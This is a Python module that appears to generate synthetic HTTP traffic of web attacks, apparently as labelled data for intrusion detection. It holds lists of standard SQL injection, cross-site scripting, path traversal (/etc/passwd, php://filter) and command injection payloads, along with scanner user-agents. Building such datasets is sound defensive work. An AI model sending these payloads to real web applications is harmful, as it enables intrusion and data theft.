"""Web attacks: the shape of SQL injection, cross-site scripting, path traversal and command injection in HTTP
requests.

Payloads are inert: they have the signs and key words by which such requests are known, name no real software's flaw
and carry no program. Two manners: sqlmap-like bursts (one agent, dozens of near-equal requests on kept-alive or fresh
connections, encoded and commented) and attempts by hand (a browser's headers, seconds apart). Payloads stand in the
query, a form or JSON body, a cookie or a header; encodings vary (percent, plus, double, mixed case). Answers: 200,
302, 403 of a firewall, 404, 500.
"""

from __future__ import annotations

import json
from urllib.parse import quote, quote_plus

import numpy as np
import numpy.typing as npt

from contract.families import Family
from generator.conversation import Conversation
from generator.shapes import http, names
from generator.shapes.crowd import assign, by_actor, headcount, rate, uneven, villains
from generator.shapes.parts import Part, Parts, rand
from generator.world import Attempts, World

FAMILY = Family(
    "exploit",
    "Web attack",
    "Requests that carry SQL, script, path or command fragments where a web application expects plain input.",
    "T1190",
    "TA0001",
)
_VARIANTS = 48
_SQL = (
    "{n}' OR '{n}'='{n}",
    "{n}) AND {n}={n} AND ({n}={n}",
    "{n}' UNION ALL SELECT NULL,NULL,CONCAT(0x71,0x71)-- -",
    "' UNION SELECT user,password FROM users#",
    "{n};WAITFOR DELAY '0:0:5'--",
    "{n}' AND SLEEP(5)-- {w}",
    "{n} AND (SELECT {n} FROM(SELECT COUNT(*),CONCAT(0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS)a)",
    "admin'--",
    "{n}' ORDER BY {n}-- -",
    "{n} UNION/**/SELECT/**/version(),database()",
    "%' or 0=0 union select null, version() #",
    "{n}' AND ORD(MID((SELECT IFNULL(CAST(COUNT(*) AS NCHAR),0x20) FROM information_schema.TABLES),1,1))>{n}-- {w}",
)
_SCRIPT = (
    "<script>alert({n})</script>",
    '"><img src=x onerror=alert({n})>',
    "'><svg/onload=alert('{w}')>",
    "javascript:alert({n})",
    "<body onload=alert(document.cookie)>",
    '<iframe src="javascript:alert(`{w}`)">',
    '"-alert({n})-"',
    "<ScRiPt >prompt({n})</ScRiPt>",
)
_PATHS = (
    "../../../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/hosts",
    "/etc/passwd%00.jpg",
    "php://filter/convert.base64-encode/resource=index.php",
    "../../../../proc/self/environ",
    "file:///etc/hostname",
    "..%2f..%2f..%2fetc%2fshadow",
)
_COMMANDS = (
    "127.0.0.1;id",
    "127.0.0.1 && whoami",
    "| cat /etc/passwd",
    "`id`",
    "$(sleep 5)",
    "127.0.0.1%0auname -a",
    "; ping -c 3 127.0.0.1 ;",
    "{{7*7}}",
    "${{{n}*{n}}}",
    "|| type C:\\windows\\win.ini",
)
_KINDS = (_SQL, _SQL, _SCRIPT, _PATHS, _COMMANDS)
_SCANNERS = (
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0)",
    "Wfuzz/3.1.0",
    "python-requests/2.31.0",
    "curl/8.5.0",
    "commix/3.9",
)
_FIELDS = ("id", "q", "page", "file", "cat", "user", "name", "item", "ip", "lang", "view", "search")


def _encode(world: World, text: str) -> bytes:
    rng = world.rng
    style = rng.random()
    if rng.random() < 0.2:
        text = "".join(
            sign.upper() if bit else sign.lower() for sign, bit in zip(text, rng.random(len(text)) < 0.5, strict=True)
        )
    if style < 0.5:
        return quote(text, safe="").encode()
    if style < 0.8:
        return quote_plus(text, safe="()*").encode()
    if style < 0.9:
        return quote(quote(text, safe=""), safe="").encode()
    return text.replace(" ", "%20").replace("#", "%23").encode("latin-1")


def _inert(world: World, kind: tuple[str, ...]) -> str:
    text = str(world.pick(kind))
    return text.replace("{n}", str(world.rng.integers(1, 9999))).replace("{w}", names.token(world.rng, 4, "letters"))


def _one(world: World, host: str, page: str, agent: str, kind: tuple[str, ...]) -> list[Part]:
    rng = world.rng
    by_tool = not agent.startswith("Mozilla/5.0 ")
    headers: list[tuple[str, Parts]]
    if by_tool:
        headers = [
            ("Host", host.encode()),
            ("User-Agent", agent.encode()),
            ("Accept", b"*/*"),
            ("Cache-Control", b"no-cache"),
        ]
    else:
        headers = http.browser_headers(rng, host, agent, referer=f"http://{host}{page}")
    field, payload = str(world.pick(_FIELDS)).encode(), _encode(world, _inert(world, kind))
    place = rng.random()
    if place < 0.6:
        return http.request("GET", [page.encode(), b"?", field, b"=", payload, b"&Submit=", rand(3, "alnum")], headers)
    if place < 0.8:
        headers.append(("Content-Type", b"application/x-www-form-urlencoded"))
        return http.request("POST", page.encode(), headers, [field, b"=", payload, b"&token=", rand(16, "hex")])
    if place < 0.9:
        headers.append(("Content-Type", b"application/json"))
        text = json.dumps({field.decode(): _inert(world, kind)})[:-1]
        return http.request("POST", page.encode(), headers, [text.encode(), b', "id": 1', rand(4, "digits"), b"}"])
    headers.append((str(world.pick(("Cookie", "X-Forwarded-For", "Referer"))), [field, b"=", payload]))
    return http.request("GET", page.encode(), headers)


def _answer(world: World, server: str) -> list[Part]:
    rng = world.rng
    status = int(rng.choice((200, 200, 200, 302, 403, 403, 404, 500)))
    size = int(np.clip(rng.lognormal(7.8, 0.7), 500, 12_000)) if status == 200 else int(rng.integers(150, 1800))
    return http.response(status, http.server_headers(rng, server, "text/html; charset=UTF-8"), http.html(rng, size))


def conversations(world: World) -> list[Conversation]:
    """Half of them as tools send them, half as people do by hand."""
    rng = world.rng
    host = names.host(rng)
    made = []
    for number in range(_VARIANTS):
        by_tool = number < _VARIANTS // 2
        kind = _KINDS[int(rng.integers(len(_KINDS)))]
        agent = str(world.pick(_SCANNERS) if by_tool and rng.random() < 0.8 else world.pick(http.BROWSERS))
        conversation = Conversation.tcp(world, client_os="linux" if by_tool else "", server_os="linux").open()
        page, server = (
            http.path(rng, str(world.pick(("", ".php", ".jsp", ".aspx", "/")))),
            str(world.pick(http.SERVERS)),
        )
        for turn in range(int(world.pick((1, 1, 1, 3, 8, 16))) if by_tool else int(rng.integers(1, 4))):
            think = float(rng.uniform(0.0005, 0.05)) if by_tool or turn == 0 else float(rng.uniform(3.0, 25.0))
            conversation.client(_one(world, host, page, agent, kind), think=think, jitter=0.6)
            slow = 5.0 if rng.random() < 0.03 else 0.0  # a delay that was asked for
            conversation.server(_answer(world, server), think=slow + float(rng.lognormal(-4.5, 1.0)))
        ends = ("fin", "server_fin") if by_tool else ("server_fin", "fin", "rst")
        made.append(conversation.close(world.pick(ends), think=float(rng.uniform(0.0, 0.01 if by_tool else 5.0))))
    return made


def attempts(intended: npt.NDArray[np.int64], world: World) -> Attempts:
    """A few attackers in bursts or many by hand, at one site or several."""
    n, rng = len(intended), world.rng
    attackers = villains(world, headcount(rng, rate(intended), (0.05, 20.0), (1, 2000)))
    who = assign(rng, intended, uneven(rng, len(attackers), 0.6))
    by_tool = rng.random(len(attackers)) < rng.uniform(0.3, 1.0)
    victims = world.some(world.sites, 1, 12)
    src, dst = by_actor(world, who, attackers[who], victims[who % len(victims)])
    half = _VARIANTS // 2
    # each attacker goes through a few requests of its own
    variant = (who * 7 + rng.integers(0, 6, n)) % half + np.where(by_tool[who], 0, half)
    return Attempts.of(
        world,
        intended,
        src=src,
        dst=dst,
        dst_port=int(world.pick((80, 80, 80, 8080, 8000))),
        template=variant,
        rtt_ns=world.rtt(len(attackers))[who],
        ipv6=False,
    )
